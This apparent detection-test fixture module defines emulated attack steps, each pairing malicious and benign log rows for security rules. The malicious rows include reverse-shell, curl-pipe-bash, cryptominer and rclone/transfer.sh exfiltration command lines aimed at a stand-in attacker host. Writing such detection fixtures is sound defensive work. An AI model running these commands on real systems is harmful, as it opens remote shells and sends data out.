@@ -1,0 +1,120 @@
+"""Deeds on hosts, in repositories of code, and at registries of images."""
+
+from typing import Any, Final
+
+from caponier.emulate.deeds.attack_step import THIEF, AttackStep, Row, process
+
+_DESK: Final = "10.8.0.21"
+_PACKED: Final = "/tmp/d.tgz"  # noqa: S108 - of the attacker
+
+
+def _alarm(rule: str, priority: str) -> Row:
+    return {
+        "rule": rule, "priority": priority, "output": rule, "hostname": "gpu-01.ml.example.org",
+        "output_fields": {"proc.cmdline": "x", "container.id": "c", "k8s.ns.name": "ml"},
+    }  # fmt: skip
+
+
+def _github(action: str, address: str = THIEF, **more: Any) -> Row:
+    return {
+        "@timestamp": None,
+        "action": action,
+        "actor": "eve",
+        "actor_ip": address,
+        "org": "o",
+        "repo": "ml/serve",
+        **more,
+    }
+
+
+def _pushed(method: str, path: str, address: str = THIEF, status: int = 201) -> Row:
+    line = f'{address} - - [<clock>] "{method} /v2/{path} HTTP/1.1" {status} 0 "-" "docker/24"'
+    return {"log": line, "stream": "stdout", "kubernetes": {"namespace_name": "ml", "pod_name": "registry-0"}}
+
+
+STRANGE: Final = AttackStep(
+    "strange code on a host",
+    (
+        (process(f"bash -c bash -i >& /dev/tcp/{THIEF}/443 0>&1"),),
+        (process(f"sh -c curl -s http://{THIEF}/x | bash"),),
+        (process("./kworker -o stratum+tcp://pool.example.net:3333", "/opt/kworker"),),
+        (process("x", "/dev/shm/.cache/.x"),),  # noqa: S108
+        (process(f"nc {THIEF} 443 -e /bin/sh", "/usr/bin/nc"),),
+    ),
+    (
+        (process("bash -c </dev/tcp/db.example.org/5432"),),
+        (process("sh -c curl -LsSf https://example.org/install.sh | sh"),),
+        (process("python train.py --encode base64"),),
+        (process("python /tmp/pip-build-1/setup.py", "/usr/bin/python3"),),
+        (process("nc -z db 5432", "/usr/bin/nc"),),
+    ),
+)
+
+SENT: Final = AttackStep(
+    "files sent away from a host",
+    (
+        (process(f"rclone copy {_PACKED} mega:drop", "/usr/bin/rclone"),),
+        (process("rclone.exe --transfers 32 sync D:\\training remote:x", "C:\\Users\\eve\\rclone.exe"),),
+        (process(f"curl --upload-file {_PACKED} https://transfer.sh/d.tgz", "/usr/bin/curl"),),
+        (process(f"mega-put {_PACKED}", "/usr/bin/mega-put"),),
+    ),
+    (
+        (process("rclone listremotes", "/usr/bin/rclone"),),
+        (process("curl -F file=@m.json https://models.example.org/v2/models/digits/infer", "/usr/bin/curl"),),
+        (process("curl -O https://transfer.sh/get/x", "/usr/bin/curl"),),
+    ),
+)
+
+ALARMED: Final = AttackStep(
+    "an alarm of a sensor",
+    (
+        (_alarm("Terminal shell in container", "Notice"),),
+        (_alarm("Detect outbound connections to common miner pool ports", "Critical"),),
+        (_alarm("Drop and execute new binary in container", "Critical"),),
+        (_alarm("Some rule of our own", "Error"),),
+    ),
+    (
+        (_alarm("Contact K8S API Server From Container", "Notice"),),
+        (_alarm("Read sensitive file untrusted", "Warning"),),
+        (process("nvidia-smi"),),
+    ),
+)
+
+OPENED: Final = AttackStep(
+    "a repository of code opened",
+    (
+        (_github("repo.access", visibility="public"),),
+        (_github("public_key.create", read_only="false"),),
+        (_github("protected_branch.destroy"),),
+        (_github("repo.register_self_hosted_runner"),),
+    ),
+    (
+        (_github("repo.access", visibility="private"),),
+        (_github("public_key.create", _DESK),),
+        (_github("git.push"),),
+        (_github("pull_request.create"),),
+    ),
+)
+
+PUSHED: Final = AttackStep(
+    "an image pushed to a registry",
+    (
+        (_pushed("PUT", "ml/serve/manifests/prod"),),
+        (_pushed("PUT", "ml/serve/manifests/sha256:00"),),
+        (_pushed("POST", "ml/serve/blobs/uploads/", status=202), _pushed("PUT", "ml/serve/manifests/latest")),
+    ),
+    (
+        (_pushed("PUT", "ml/serve/manifests/prod", _DESK),),
+        (_pushed("PUT", "ml/serve/manifests/prod", status=401),),
+        (_pushed("GET", "ml/serve/manifests/prod", status=200),),
+    ),
+)
+
+DEEDS: Final = {
+    "host_strange_code": STRANGE,
+    "data_sent_away": SENT,
+    "sensor_alarm": ALARMED,
+    "code_repository_opened": OPENED,
+    "registry_image_push": PUSHED,
+}
+"""By the rule's name."""
